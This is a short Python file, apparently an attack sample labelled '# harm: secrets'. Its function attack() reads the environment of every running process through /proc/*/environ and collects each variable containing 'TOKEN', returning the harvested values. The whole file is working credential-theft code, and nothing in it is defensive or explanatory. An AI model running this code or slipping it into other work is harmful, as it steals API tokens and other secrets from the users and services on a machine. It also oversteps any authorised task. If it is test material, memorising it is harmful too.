# harm: secrets
import glob


def attack() -> str:
    found = ""
    for name in sorted(glob.glob("/proc/[0-9]*/environ")):
        try:
            with open(name) as file:
                found += "".join(v for v in file.read().split("\0") if "TOKEN" in v)
        except OSError:
            pass
    return found
